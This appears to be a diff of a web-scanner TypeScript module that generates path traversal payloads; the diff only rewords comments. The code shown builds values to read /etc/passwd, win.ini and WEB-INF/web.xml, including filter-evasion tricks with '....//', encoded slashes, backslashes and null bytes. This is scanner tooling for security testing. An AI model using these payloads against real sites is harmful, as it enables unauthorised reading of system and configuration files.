@@ -3,20 +3,20 @@ import { type InsertionPoint, locationOf } from '../core/evidence/insertion-poin
 
 export type ServerKind = 'java' | 'other';
 
-/** What is known of the place a file name goes to. */
+/** Facts about the program that opens the file. */
 export interface TraversalPlace {
   /** The value that the site itself sends. */
   readonly example: string;
   /** Path of the page that takes the parameter. */
   readonly pagePath: string;
   readonly server: ServerKind;
-  /** A banner or a drive letter somewhere says so. */
+  /** A banner or a drive letter says so. */
   readonly isWindows: boolean;
   /** Path of the Java web application on its server, `/` for the root; null when unknown. */
   readonly contextPath: string | null;
-  /** The site shows a run-time of which old versions end a file name at a zero byte; others fail on one, and a careless program with them. */
+  /** Old versions of the site's runtime end a file name at a null byte; others fail on one. */
   readonly endsAtZero: boolean;
-  /** Path of a static file of the site whose text is known. */
+  /** Path of a static file with known text. */
   readonly knownPath: string | null;
 }
 
@@ -25,20 +25,20 @@ const PASSWD = 'etc/passwd';
 const WIN_INI = 'windows/win.ini';
 const WEB_XML = 'WEB-INF/web.xml';
 const up = (steps: number, step = '../') => step.repeat(steps);
-/** More steps than any folder is deep: a file system stays at its root. */
+/** More steps than any directory is deep: the file system stops at its root. */
 const DEEP = 12;
 
 /**
- * Values that lead out of the folder, most promising first, each a way that the ones before it do not cover. The first one, with a
- * slash and then up, serves code that takes a full path, that puts a folder in front, and that puts one without its slash.
+ * Values that lead outside the directory, most promising first; each covers programs that the earlier ones do not. The first one, a
+ * slash and then up, works for programs that use a full path, and for those that prepend a directory with or without its slash.
  */
 export function traversalPayloads(place: TraversalPlace): string[] {
   const { example, isWindows } = place;
-  // What fetches an address reads files by one, and joins nothing.
+  // A program that fetches URLs reads files by URL and joins no paths.
   if (/^https?:/i.test(example)) return [fileUrl(isWindows), `/${up(DEEP)}${isWindows ? WIN_INI : PASSWD}`];
   const payloads = place.server === 'java' ? javaPayloads(place) : isWindows ? windowsPayloads() : unixPayloads(place);
   const folder = example.slice(0, example.lastIndexOf('/') + 1);
-  // Code that demands a certain folder in front, a full path or a URL is met halfway.
+  // Programs may require a certain directory, a full path or a URL at the start.
   if (/^file:/i.test(example)) payloads.unshift(fileUrl(isWindows));
   else if (/^[^/].*\//.test(folder)) payloads.unshift(folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
   else if (folder.length > 1) payloads.splice(3, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
@@ -50,12 +50,12 @@ function unixPayloads({ example, endsAtZero, knownPath }: TraversalPlace): strin
   return [
     `/${up(DEEP)}${PASSWD}`,
     up(DEEP) + PASSWD,
-    // What is left when a filter has removed `../` once.
+    // Becomes `../` when a filter removes `../` once.
     `/${up(DEEP, '....//')}${PASSWD}`,
     `/${PASSWD}`,
-    // Where an ending is demanded or appended, old run-times end the name before it.
+    // Old runtimes end the name before a required or appended extension.
     ...(endsAtZero ? [`/${up(DEEP)}${PASSWD}\u0000${ending}`] : []),
-    // Filters that know `../` alone, before code that takes both separators; and Windows where no banner tells.
+    // Filters for `../` only, before programs that accept both separators; and Windows without a banner.
     backslashes(up(DEEP) + PASSWD),
     backslashes(up(DEEP) + WIN_INI),
     fileUrl(false),
@@ -81,14 +81,14 @@ function windowsPayloads(): string[] {
     `/${up(DEEP, '....//')}${WIN_INI}`,
     `%2f${up(DEEP, '%2e%2e%2f')}${WIN_INI.replace('/', '%2f')}`,
     fileUrl(true),
-    // A banner of ASP.NET does not rule out another system.
+    // An ASP.NET banner does not rule out another system.
     `/${up(DEEP)}${PASSWD}`,
   ];
 }
 
 /**
- * A web application reads its own resources by paths that start at its root and must not lead above it (Servlet specification,
- * section 4.6): the number of steps has to be right. The page's own folder tells it, where files lie beside the pages.
+ * A web application reads its own resources by paths from its root, which must not lead above it (Servlet specification, section
+ * 4.6): the number of steps must be right. The page's own folder gives it where the files are next to the pages.
  */
 function javaPayloads(place: TraversalPlace): string[] {
   const { isWindows, example } = place;
@@ -96,15 +96,15 @@ function javaPayloads(place: TraversalPlace): string[] {
   const outside = isWindows ? WIN_INI : PASSWD;
   const direct = [`/${WEB_XML}`, isWindows ? backslashes(`c:/${outside}`) : `/${outside}`];
   const payloads = [
-    // Whether the program opens a file or a resource of its application: files beside the pages lead to this one either way.
+    // Works for files and for resources of the application, if they are next to the pages.
     inside,
     `/${up(DEEP)}${outside}`,
-    // Without a value of the site nothing tells where the path begins.
+    // Without a value of the site the start of the path is unknown.
     ...(example === '' ? [`/${WEB_XML}`, fileUrl(isWindows)] : []),
-    // Filters that know `../` alone leave the other separator, which Windows takes everywhere and older containers for resources.
+    // Filters for `../` only let backslashes through, which Windows accepts everywhere and older containers accept for resources.
     backslashes(isPathInApplication(place) ? `/${WEB_XML}` : inside),
     inside.replaceAll('../', '....//'),
-    // Where the application is known the steps are right, and what leads into it shows all that this one would.
+    // With a known application the number of steps is right, and the resource payload covers this one.
     ...(place.contextPath === null ? [`/${up(DEEP, '....//')}${outside}`] : []),
     ...direct,
     fileUrl(isWindows),
@@ -121,30 +121,30 @@ function folders(path: string): string[] {
 
 function stepsToContext({ pagePath, contextPath }: TraversalPlace): number {
   const depth = folders(pagePath).length;
-  // Where nothing tells, an application of several folders more often has a name than not.
+  // Without evidence, assume that an application of several folders has a context path.
   const context = contextPath === null ? (depth > 1 ? 1 : 0) : folders(`${contextPath.replace(/\/$/, '')}/`).length;
   return Math.min(Math.max(depth - context, 0), DEEP);
 }
 
-/** True when the value the site sends is a path from the root of the application, as the page's own address shows. */
+/** True when the site's own value is a path from the root of the application, as the URL of the page shows. */
 function isPathInApplication({ example, pagePath }: TraversalPlace): boolean {
   const own = `/${folders(pagePath).join('/')}/`;
   const given = folders(example.replaceAll('\\', '/'));
   return /^[\\/]/.test(example) && given.length > 0 && own.endsWith(`/${given.join('/')}/`);
 }
 
-/** Names that say a file or a folder themselves. */
+/** Names of files and folders. */
 const FILE_NAME =
   /^(?:file\w*|f|path\w*|page|doc\w*|document|folder|dir\w*|root|template|tpl|include|inc|load|read|target|src|source|img|image|pic\w*|photo|download|attachment|resource|res|pdf|log)$/i;
-/** Names that more often choose something else: a language, an item, a text. */
+/** Names that usually select something else: a language, an item, a text. */
 const VAGUE_NAME =
   /^(?:view|content|lang\w*|locale|theme|style|skin|layout|module|mod|conf\w*|name|report|show|display|url|uri|site|text|data|item|body|section|cat|prefix|open)$/i;
 
 /**
- * How much a parameter looks as if it named a file: by its name, by the value that the site itself sends, or by what is answered
- * to that. A path most often leads to a page and not to a file.
+ * How likely a parameter is to name a file: by its name, the site's own value, or the response to it. A path usually leads to a page
+ * and not to a file.
  *
- * @param linked answer to the value of the site, where the crawl has it
+ * @param linked response to the site's own value, where the crawl has it
  */
 export function fileLikeness(
   point: InsertionPoint,
@@ -163,7 +163,7 @@ export function fileLikeness(
   return isVague || (linked !== null && isFileType(linked)) ? 'vague' : null;
 }
 
-/** True for an answer that is no page but a file, which the parameter may well have picked. */
+/** True for a response that is a file rather than a page. */
 function isFileType({ response: { status, headers } }: Exchange): boolean {
   const type = header(headers, 'content-type') ?? '';
   return (
@@ -174,14 +174,14 @@ function isFileType({ response: { status, headers } }: Exchange): boolean {
   );
 }
 
-/** Another way to write a path, that a file system reads as the same; null for what is no plain path. */
+/** Another spelling of a path, the same to a file system; null for other values. */
 export function sameFile(example: string): string | null {
   if (!/^[\w./ -]*[\w-]$/.test(example)) return null;
   const file = example.lastIndexOf('/') + 1;
   return `${example.slice(0, file)}./${example.slice(file)}`;
 }
 
-/** The text of a page without the values that were sent, their encodings and numbers: what must not count when answers are compared. */
+/** The text of a page without the sent values, their encodings and numbers, so that responses can be compared. */
 export function withoutValues(text: string, values: readonly string[]): string {
   const forms = values.flatMap((value) => [
     value,
